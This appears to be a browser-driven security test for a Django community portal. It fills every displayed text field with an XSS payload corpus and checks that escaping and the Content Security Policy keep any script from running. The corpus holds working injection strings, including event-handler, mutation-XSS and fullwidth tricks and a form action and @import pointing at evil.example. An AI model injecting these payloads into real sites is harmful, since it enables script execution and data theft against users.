"""Drill A4: hostile text in every field that is shown, walked in a real browser under our policy: nothing runs.

The text is put into the rows themselves, past every form, so that only escaping and the policy are left to hold; the
one text that is shown as HTML, a post's body, goes through the cleaning its action does.
"""

import re
from collections import Counter
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.contrib.staticfiles import finders
from django.db import models
from django.test import Client
from django.urls import Resolver404, resolve
from playwright.sync_api import Error

from members.models import Actor, Office
from portal.home import bodies
from portal.home.models import Post, PostVersion
from tests.entering import enter as signed_in
from tests.factories import full_city
from tests.journeys.conftest import DESKTOP

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.journey]

CORPUS = (
    "<script>__xss=1</script>", "<img src=x onerror=__xss=1>", "\"><svg onload=__xss=1>", "'><b onclick=__xss=1>x",
    "\" autofocus onfocus=__xss=1 x=\"", "javascript:__xss=1", "</title><script>__xss=1</script>",
    "</script><script>__xss=1</script>", "</textarea><script>__xss=1</script>", "{{7*7}}${__xss=1}<%=1%>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>", "<a href=javascript:__xss=1>x</a>", "<math><mtext></form><form><mglyph><style></math><img src onerror=__xss=1>",
    "<svg><animate onbegin=__xss=1 attributeName=x dur=1s>", "<details open ontoggle=__xss=1>", "＜script＞__xss=1＜/script＞",
    "<base href=//evil.example>", "<style>@import'//evil.example'</style>", "<form action=//evil.example><input>", "<!--><script>__xss=1</script>",
)  # fmt: skip
APPS = ("ground", "members", "events", "societies", "outreach", "home")
# What is a key, a code, an address or a name of a file and never a text somebody types for others to read.
KEPT = re.compile(
    r"(^|_)(id|code|codes|kind|key|digest|path|password|username|phone|slug|token|thing|city|quarter|period|scope|format|"
    r"type|indicator|url|picture|state|normal|formation|number|prefix|email|verb|address|serial|field|uid)$"
)
MOST_PER_VIEW = 2
WALKERS = (None, "reader-1", "official", "leader", "system", "audit", "president", "worker", "honghua", "security")
MET = {"article", "society_page", "branch_page", "event_page"}
MET_BY_OFFICIALS = {"moderation_queue", "post_detail", "branch_detail", "event_detail"}


def poison():
    """The corpus in every text of every row; how many rows of which fields were written."""
    written, turn = Counter(), 0
    for model in (model for label in APPS for model in apps.get_app_config(label).get_models()):
        if model._meta.model_name in {"journalentry", "journalseal", "region", "consenttext", "indicatordefinition"}:
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, (models.CharField, models.TextField)) or field.choices or KEPT.search(field.name):
                continue
            if field.name == "body" or (field.unique and not field.primary_key) or field.primary_key:
                continue
            for row in model.objects.all():
                text = _fitting(turn, field.max_length, row.pk)
                turn += 1
                model.objects.filter(pk=row.pk).update(**{field.name: text})
                written[field.model.__name__, field.name] += 1
    html = bodies.clean("".join(f"<p>{text}</p>{text}" for text in CORPUS))
    Post.objects.update(body=html)
    PostVersion.objects.update(body=html)
    return written


def _fitting(turn, longest, pk):
    """A text of the corpus that the field holds together with the row's number, for fields that must differ."""
    fits = [f"{text}{pk}" for text in CORPUS if not longest or len(f"{text}{pk}") <= longest]
    return fits[turn % len(fits)] if fits else f"<b>{pk}"[:longest]


def walk(page, starts):
    """Go wherever links lead, to each view at most twice; gives the addresses that were opened."""
    seen, todo, visits = set(), list(starts), Counter()
    while todo:
        address = todo.pop(0).split("#")[0]
        name = _view(address)
        if name is None or address in seen or visits[name] >= MOST_PER_VIEW:
            continue
        seen.add(address)
        visits[name] += 1
        try:
            response = page.goto(address, wait_until="load")
        except Error as error:
            if "Download is starting" not in str(error):
                raise
            continue
        if response.status >= 500:
            raise AssertionError(f"{address} answers {response.status}")
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        todo += page.eval_on_selector_all("a[href^='/']", "links => links.map(link => link.getAttribute('href'))")
    return visits


def _on_disk(address):
    """The file behind a static address: asking the server for them again and again was half of every walk."""
    return finders.find(urlsplit(address).path.removeprefix("/static/"))


def _view(address):
    if (
        address.startswith(("/static/", "/files/", "/pictures/", "/accounts/logout"))
        or ".xlsx" in address
        or "export=" in address
    ):
        return None
    try:
        return resolve(address.split("?")[0]).url_name
    except Resolver404:
        return None


@pytest.fixture
def watched(browser, live_server):
    """A page of somebody's that notes what ran and what the policy stopped: page, [(what, where)]."""
    contexts, found = [], []

    def note(what):
        found.append(what)

    def page_of(username=None, base=live_server.url):
        context = browser.new_context(viewport=DESKTOP, base_url=base, locale="zh-CN", accept_downloads=False)
        contexts.append(context)
        if username:
            office = Office.objects.filter(person__username=username).select_related("person").first()
            person = office.person if office else apps.get_model("members.Person").objects.get(username=username)
            client = signed_in(Client(), Actor(person))
            context.add_cookies(
                [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}]
            )
        context.expose_function("noted", note)
        context.add_init_script(
            "Object.defineProperty(window, '__xss', {set() { noted('ran ' + location.pathname); }, configurable: true});"
            "document.addEventListener('securitypolicyviolation', event =>"
            " noted('stopped ' + event.violatedDirective + ' ' + location.pathname + ' ' + event.sample));"
        )
        page = context.new_page()
        page.route("**/files/**", lambda route: route.abort())  # the small city's papers have no bytes
        page.route("**/static/**", lambda route: route.fulfill(path=_on_disk(route.request.url)))
        page.on("dialog", lambda dialog: (found.append("dialog " + page.url), dialog.dismiss()))
        return page

    yield page_of, found
    for context in contexts:
        context.close()


@pytest.mark.parametrize("who", WALKERS)
def test_no_text_runs_on_any_page(city, watched, who):
    full_city.build(city)
    written = poison()
    full_city.tell(city, CORPUS[1])
    page_of, found = watched

    own = ["/desk/", "/me/", "/me/comments/", "/desk/notices/", "/desk/moderation/"] if who else []
    visits = walk(page_of(who), ["/", "/news/", "/societies/", "/branches/", "/events/", "/search/?q=xss", *own])

    assert len(written) > 60
    assert MET | (MET_BY_OFFICIALS if who == "official" else set()) <= set(visits)
    assert found == []


ATTACK = "<!doctype html><title>x</title>" + "".join(f"<div>{text}</div>" for text in CORPUS[:6])


@pytest.mark.parametrize(("policy", "noted"), [("", "ran"), ("default-src 'self'", "stopped")])
def test_without_escaping_the_same_texts_run_or_are_stopped_and_counted(watched, policy, noted):
    """The control: a page that writes them as they are. Without a policy they run, with ours each try is counted."""
    page_of, found = watched
    page = page_of()
    headers = {"Content-Type": "text/html"} | ({"Content-Security-Policy": policy} if policy else {})
    page.route("**/attack/", lambda route: route.fulfill(body=ATTACK, headers=headers))
    page.goto("/attack/")
    page.wait_for_timeout(300)

    assert found
    assert {what.split()[0] for what in found} == {noted}


def test_a_template_that_forgot_to_escape_would_be_found(city, watched, monkeypatch):
    """The second control: the same walk over our own pages with escaping taken away."""
    full_city.build(city)
    poison()
    monkeypatch.setattr("django.template.base.render_value_in_context", lambda value, context: str(value))
    page_of, found = watched

    walk(page_of(), ["/news/"])

    assert any(what.startswith("stopped") for what in found)
